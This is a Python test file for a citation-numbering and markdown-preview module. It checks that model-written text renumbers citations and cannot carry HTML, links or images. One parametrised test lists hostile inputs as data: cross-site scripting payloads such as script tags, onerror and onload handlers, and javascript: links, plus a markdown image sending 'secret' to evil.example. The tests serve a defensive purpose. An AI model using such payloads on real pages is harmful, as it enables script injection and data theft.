"""What a model wrote: citations are checked and numbered, and nothing in it is HTML, a link or a picture."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from talome.memory.sources.models import Citation
from talome.memory.studio.citing import Citations, plain
from talome.memory.studio.preview import as_html


def passage(name: str) -> Citation:
    return Citation(
        chunk_id=name, document_id="doc", source_id="src", workspace_id=None, title=name, source_title=name, place="",
        heading=[], page=None, line=None, url=None, text=name,
    )  # fmt: skip


A, B, C = passage("a"), passage("b"), passage("c")


def test_numbers_go_through_the_document_and_invented_ones_are_dropped() -> None:
    citations = Citations()
    assert citations.section("One [2]. Two [1, 2; 9]. Three [7].", [A, B]) == "One [1]. Two [2][1]. Three ."
    assert citations.section("Four [1][^2].", [C, B]) == "Four [3][1]."
    assert [(number, one.chunk_id) for number, one in citations.used()] == [(1, "b"), (2, "a"), (3, "c")]
    assert citations.dropped == 2


def test_what_was_deleted_meanwhile_is_taken_out() -> None:
    citations = Citations()
    text = citations.section("One [1]. Two [2]. Three [3].", [A, B, C])
    text, kept = citations.without(text, {"a", "c"})
    assert text == "One [1]. Two . Three [2]."
    assert [(number, one.chunk_id) for number, one in kept] == [(1, "a"), (2, "c")]


def test_code_keeps_its_brackets() -> None:
    text = "```python\nx = row[1]\n<b>\n```\nSee [1]."
    assert Citations().section(text, [A]) == "```python\nx = row[1]\n<b>\n```\nSee [1]."
    assert Citations().section("```\nnever [9] closed", [A]) == "```\nnever [9] closed\n```"
    assert Citations().section("```markdown\nAll of it [1].\n```", [A]) == "All of it [1]."


@pytest.mark.parametrize(
    "evil",
    [
        "<script>alert(1)</script>",
        "a <img src=x onerror=alert(1)> b",
        "</div><iframe src='https://evil.example'>",
        "<!-- hidden --> <?php ?> <![CDATA[x]]>",
        "~~~\n```\n~~~\n<script>alert(1)</script>\n```",
        "`` ` `<script>` ``",
        "![picture](https://evil.example/?q=secret)",
        "[click](javascript:alert(1)) and <https://evil.example>",
        "[x]: https://evil.example 'title'\n[x]",
        "| a |\n|---|\n| <b onclick=x> |",
        "- <svg/onload=alert(1)>\n> <a href=x>",
    ],
)
def test_nothing_of_it_is_html_or_leads_anywhere(evil: str) -> None:
    text = Citations().section(evil, [A])
    outside = re.sub(r"^```.*?^```$", "", text, flags=re.DOTALL | re.MULTILINE)
    assert not re.search(r"<[A-Za-z/!?]", outside)
    assert not re.search(r"(?<!\\)\](?:\(|:)", outside, re.MULTILINE)
    only = {"h3", "p", "ul", "ol", "li", "table", "tr", "td", "th", "pre", "code", "blockquote", "strong", "em", "a"}
    assert set(re.findall(r"</?([a-z0-9]+)", as_html(text))) <= only
    assert not re.search(r"<[^>]*\son\w+=", as_html(text))


@settings(max_examples=30, deadline=None)
@given(st.text(st.characters(codec="utf-8"), max_size=400), st.text("<>`~[]()!#*-|\n a1/", max_size=200))
def test_any_text_becomes_html_of_our_own_making(text: str, marks: str) -> None:
    html = as_html(Citations().section(text + marks, [A]))
    elements = "h[1-6]|p|ul|ol|li|table|tr|t[dh]|pre|code|blockquote|strong|em|a"
    left = re.sub(rf'<(?:/?(?:{elements})|a href="#citation-\d+")>', "", html)
    assert "<" not in left
    assert not re.search(r"<[A-Za-z/!?]", plain(text))


def test_the_preview_of_usual_markdown() -> None:
    table = "| a | b |\n|---|---|\n| 1 | 2 |"
    text = f"# T\n\nA **b** *c* `d` [1]\nmore\n\n- one\n- two\n\n1. x\n\n{table}\n\n> q\n\n```\n<x>\n```"
    assert as_html(text).split("\n") == [
        "<h1>T</h1>",
        '<p>A <strong>b</strong> <em>c</em> <code>d</code> <a href="#citation-1">[1]</a> more</p>',
        "<ul><li>one</li><li>two</li></ul>",
        "<ol><li>x</li></ol>",
        "<table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>",
        "<blockquote>q</blockquote>",
        "<pre><code>&lt;x&gt;</code></pre>",
    ]
